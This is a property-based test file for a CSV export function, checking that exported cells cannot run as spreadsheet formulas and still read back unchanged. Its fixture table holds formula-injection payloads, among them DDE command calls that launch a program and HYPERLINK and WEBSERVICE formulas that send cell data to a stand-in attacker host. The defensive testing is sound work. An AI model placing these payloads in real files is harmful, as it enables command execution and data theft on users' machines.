import fc from 'fast-check';
import { readCells } from '../import/guessed-text.js';
import { textCell } from './csv-text.js';

/** What makes a spreadsheet run a cell. */
const RUNS = /^[=+@\0\t\r-]/;
/** A formula that is nothing but text in quotes, in pieces: it comes to that text and asks nobody for anything. */
const ONLY_TEXT = /^="(?:[^"]|"")*"(?:&"(?:[^"]|"")*")*$/;

const dangerous = {
  'a command': '=cmd|"/c calc"!A1',
  'a link': '=HYPERLINK("https://evil.example?"&A1,"look")',
  'a request': '=WEBSERVICE("https://evil.example")',
  'a command behind text': '="a"&cmd|"/c calc"!A1',
  'a text that is not closed': '="',
  'a sum': '+1+cmd|"/c calc"!A1',
  'a difference': '-2+3+cmd|"/c calc"!A1',
  'an old function': '@SUM(1+1)*cmd|"/c calc"!A1',
  'one behind a tab': '\t=1+1',
  'one behind a line end': '\r=1+1',
  'one behind NUL': '\0=1+1',
  'a very long one': `=${'A1&'.repeat(2500)}A1`,
  'one behind a very long text': `="${'a'.repeat(9000)}"&A1`,
};

/** What an import makes of the cell. */
const readBack = (cell: string) => (readCells(1, [cell]).cells[0] ?? '').trim();

describe('a cell of an exported list', () => {
  it.each(Object.entries(dangerous))('is text to a spreadsheet, and reads back as it was: %s', (_what, text) => {
    const cell = textCell(text);
    expect(RUNS.test(cell) && !ONLY_TEXT.test(cell)).toBe(false);
    expect(readBack(cell)).toBe(text.trim());
  });

  it('is so whatever is in it', () => {
    const any = fc.tuple(
      fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\0', '="'),
      fc.string({ unit: 'binary' }),
    );
    fc.assert(
      fc.property(any, ([first, rest]) => {
        const cell = textCell(first + rest);
        expect(RUNS.test(cell) && !ONLY_TEXT.test(cell)).toBe(false);
        expect(readBack(cell)).toBe((first + rest).trim());
      }),
    );
  });

  it('is as it is where nothing would become of it', () => {
    for (const text of ['Hexagon', 'A shape, and another', 'x=1', '"quoted"']) expect(textCell(text)).toBe(text);
  });
});
